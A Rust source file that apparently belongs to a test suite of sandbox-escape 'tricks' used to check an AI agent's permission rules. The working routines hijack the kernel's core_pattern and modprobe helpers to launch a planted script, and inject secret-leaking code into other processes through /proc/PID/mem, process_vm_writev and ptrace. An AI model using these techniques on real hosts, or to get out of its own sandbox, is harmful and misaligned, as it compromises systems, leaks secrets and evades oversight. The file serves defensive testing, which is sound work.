//! X24, X25: the code runs in a process that is no agent's: one that is written to, one that the kernel
//! starts.

use std::{fs, io, io::Write, os::unix::fs::FileExt, path::Path, thread, time::Duration};

use crate::{
    case::Case,
    elf,
    gift::Gift,
    sys::{self, call, of},
    trick::{Expect, Trick, read, start},
};

const BY_PTRACE: Expect =
    Expect::Limit("these rules leave ptrace to the agent; `privilege: never: [ptrace]` stops it");
const BY_KERNEL: Expect = Expect::Limit(
    "the kernel starts it for nobody; these rules leave the file in /proc/sys open, `write: never: \
     [/proc/sys/**]` shuts it",
);

pub(crate) const TRICKS: &[Trick] = &[
    start("X24a", "the kernel starts it for a core (core_pattern)", |case| {
        by_kernel(
            case,
            Path::new("/proc/sys/kernel/core_pattern"),
            &format!("|{}", helper(case)?),
            || {
                let child = sys::fork(|| {
                    let limit = [u64::MAX, u64::MAX];
                    call(libc::SYS_prlimit64, [0, libc::RLIMIT_CORE as usize, of(&limit), 0])?;
                    sys::kill(
                        i32::try_from(std::process::id()).map_err(io::Error::other)?,
                        libc::SIGQUIT,
                    )
                })?;
                // It ends by a signal, as it should.
                let _dumped = sys::wait(child);
                Ok(())
            },
        )
    })
    .guest_only()
    .both(BY_KERNEL),
    start("X24b", "the kernel starts it to load a module (modprobe)", |case| {
        by_kernel(case, Path::new("/proc/sys/kernel/modprobe"), &helper(case)?, || {
            // A family that no kernel has built in.
            let _asked = crate::net::socket(libc::AF_KEY, libc::SOCK_RAW, 2);
            Ok(())
        })
    })
    .guest_only()
    .both(BY_KERNEL),
    read("X25a", "code written into another process by /proc/PID/mem", |case| {
        let memory =
            fs::OpenOptions::new().write(true).open(format!("/proc/{}/mem", case.word(0)?))?;
        let place = u64::try_from(case.number(1)?).map_err(io::Error::other)?;
        memory.write_all_at(&elf::leaking(&case.secret()), place)?;
        let_it_run();
        Ok(())
    })
    .before(victim),
    read("X25b", "code written into another process by process_vm_writev", |case| {
        let code = elf::leaking(&case.secret());
        let (here, there) = ([code.as_ptr() as usize, code.len()], [case.number(1)?, code.len()]);
        let arguments = [case.number(0)?, of(&here), 1, of(&there), 1, 0];
        call(libc::SYS_process_vm_writev, arguments)?;
        let_it_run();
        Ok(())
    })
    .before(victim)
    .both(BY_PTRACE),
    read("X25c", "code written into another process by ptrace", by_poke)
        .before(victim)
        .both(BY_PTRACE),
];

/// The injected code runs within this time.
fn let_it_run() {
    thread::sleep(Duration::from_millis(200));
}

/// A process that is no agent and calls the same few instructions again and again.
fn victim(_: &Case, gift: &mut Gift) -> io::Result<()> {
    let holder = gift.hold(|ready| {
        let memory = sys::memory(4096, libc::PROT_READ | libc::PROT_WRITE | libc::PROT_EXEC)?;
        sys::store(memory, &[0xc3]);
        writeln!(ready, "{}", memory as usize)?;
        loop {
            thread::sleep(Duration::from_millis(20));
            sys::jump(memory);
        }
    })?;
    gift.say(holder.pid);
    gift.say(holder.said);
    Ok(())
}

fn by_poke(case: &Case) -> io::Result<()> {
    const POKE: usize = 5;
    const DETACH: usize = 17;
    const SEIZE: usize = 0x4206;
    const INTERRUPT: usize = 0x4207;
    let (pid, place) = (case.number(0)?, case.number(1)?);
    call(libc::SYS_ptrace, [SEIZE, pid, 0, 0])?;
    call(libc::SYS_ptrace, [INTERRUPT, pid, 0, 0])?;
    call(libc::SYS_wait4, [pid, 0, 0x4000_0000, 0])?;
    for (index, bytes) in elf::leaking(&case.secret()).chunks(8).enumerate() {
        let mut word = [0x90; 8];
        word[..bytes.len()].copy_from_slice(bytes);
        let word = usize::from_ne_bytes(word);
        call(libc::SYS_ptrace, [POKE, pid, place + index * 8, word])?;
    }
    call(libc::SYS_ptrace, [DETACH, pid, 0, 0])?;
    let_it_run();
    Ok(())
}

/// A script that starts the program with the collector of this case: what the kernel starts inherits
/// nothing.
fn helper(case: &Case) -> io::Result<String> {
    let script = format!(
        "#!/bin/sh\nexec 9>/proc/{}/fd/100\nprintf {} >&9\n",
        std::process::id(),
        String::from_utf8_lossy(elf::MARK)
    );
    elf::put(&case.path("evil/helper"), script.as_bytes())?;
    Ok(case.path("evil/helper").display().to_string())
}

/// Writes what the kernel shall start, has it started, and writes back what was there.
fn by_kernel(
    _: &Case,
    file: &Path,
    value: &str,
    ask: impl FnOnce() -> io::Result<()>,
) -> io::Result<()> {
    let before = fs::read_to_string(file)?;
    fs::write(file, value)?;
    let asked = ask();
    let_it_run();
    fs::write(file, before)?;
    asked
}
